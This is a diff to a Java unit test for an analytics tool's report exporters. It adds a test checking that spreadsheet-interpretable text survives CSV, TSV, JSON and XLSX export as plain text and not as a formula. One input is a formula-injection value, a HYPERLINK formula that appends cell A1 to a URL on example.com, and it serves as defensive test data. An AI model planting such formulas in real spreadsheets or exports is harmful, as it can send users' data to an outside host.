@@ -5,6 +5,7 @@ package io.analytix.beam.pipelines.cli.query;
 
 import static com.google.common.truth.Truth.assertThat;
 
+import com.fasterxml.jackson.databind.ObjectMapper;
 import io.analytix.beam.catalogue.Catalogue;
 import io.analytix.beam.catalogue.ReportQuery;
 import io.analytix.beam.pipelines.cli.console.DisplayWidth;
@@ -13,6 +14,7 @@ import io.analytix.beam.query.ReportRow;
 import io.analytix.beam.report.Column;
 import io.analytix.beam.report.Columns;
 import java.io.InputStream;
+import java.io.StringReader;
 import java.math.BigDecimal;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
@@ -20,10 +22,19 @@ import java.nio.file.Path;
 import java.time.LocalDate;
 import java.util.Arrays;
 import java.util.List;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
+import java.util.stream.IntStream;
 import java.util.stream.Stream;
 import java.util.zip.ZipFile;
+import javax.xml.parsers.DocumentBuilderFactory;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVParser;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import org.w3c.dom.Element;
+import org.w3c.dom.NodeList;
+import org.xml.sax.InputSource;
 
 final class ReportFormatTest {
   private static final List<Column> COLUMNS =
@@ -144,6 +155,73 @@ final class ReportFormatTest {
   }
 
   @Test
+  void everyFormat_textThatASpreadsheetInterprets_isKept() throws Exception {
+    for (String term :
+        List.of(
+            "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")",
+            "+1 555 0100",
+            "-dash-video-id",
+            "@somebody",
+            "\tindented ",
+            "00123",
+            "1E5",
+            "a,b \"c\"\nd",
+            "a\r\nb\rc",
+            "_x0041_ <&> \uD83C\uDFB8",
+            "a\u0001b")) {
+      Report report = report(LocalDate.parse("2026-02-01"), term, -4L, null);
+
+      assertThat(onlyTerm(report, CSVFormat.RFC4180, ReportFormat.CSV)).isEqualTo(term);
+      assertThat(
+              onlyTerm(
+                  report, CSVFormat.RFC4180.builder().setDelimiter('\t').get(), ReportFormat.TSV))
+          .isEqualTo(term);
+      assertThat(
+              new ObjectMapper()
+                  .readTree(ReportFormat.JSON.bytes(report))
+                  .path(0)
+                  .path("insightTrafficSourceDetail")
+                  .asText())
+          .isEqualTo(term);
+      byte[] workbook = ReportFormat.XLSX.bytes(report);
+      assertThat(part(workbook, "xl/worksheets/sheet1.xml")).containsMatch("<c r=\"B2\" t=\"s\">");
+      assertThat(part(workbook, "xl/worksheets/sheet1.xml")).doesNotContain("<f>");
+      assertThat(sharedTexts(part(workbook, "xl/sharedStrings.xml"))).contains(term);
+    }
+  }
+
+  private static String onlyTerm(Report report, CSVFormat format, ReportFormat written)
+      throws Exception {
+    String text = new String(written.bytes(report), StandardCharsets.UTF_8);
+    return CSVParser.parse(text, format).getRecords().get(1).get(1);
+  }
+
+  /** The texts of a workbook as a spreadsheet reads them (ECMA-376, part 1, 22.4.2.4). */
+  private static List<String> sharedTexts(String xml) throws Exception {
+    NodeList texts =
+        DocumentBuilderFactory.newInstance()
+            .newDocumentBuilder()
+            .parse(new InputSource(new StringReader(xml)))
+            .getElementsByTagName("t");
+    return IntStream.range(0, texts.getLength())
+        .mapToObj(i -> (Element) texts.item(i))
+        .map(
+            t ->
+                t.getAttribute("xml:space").equals("preserve")
+                    ? t.getTextContent()
+                    : t.getTextContent().strip())
+        .map(
+            text ->
+                Pattern.compile("_x([0-9A-Fa-f]{4})_")
+                    .matcher(text)
+                    .replaceAll(
+                        escape ->
+                            Matcher.quoteReplacement(
+                                String.valueOf((char) Integer.parseInt(escape.group(1), 16)))))
+        .toList();
+  }
+
+  @Test
   void xlsx_daysAreDates_numbersAreNumbers_absentIsNoCell() throws Exception {
     String sheet = part(ReportFormat.XLSX.bytes(ODD), "xl/worksheets/sheet1.xml");
 
@@ -168,7 +246,6 @@ final class ReportFormatTest {
     assertThat(ReportFormat.XLSX.losses(long1))
         .containsExactly(
             "xlsx: 1 text cut to 32,767 characters; csv and parquet are exact",
-            "xlsx: 1 text stored without control characters; csv and parquet are exact",
             "xlsx: 1 number rounded to 15 digits by spreadsheets; csv and parquet are exact")
         .inOrder();
     assertThat(ReportFormat.XLSX.losses(ODD)).isEmpty();
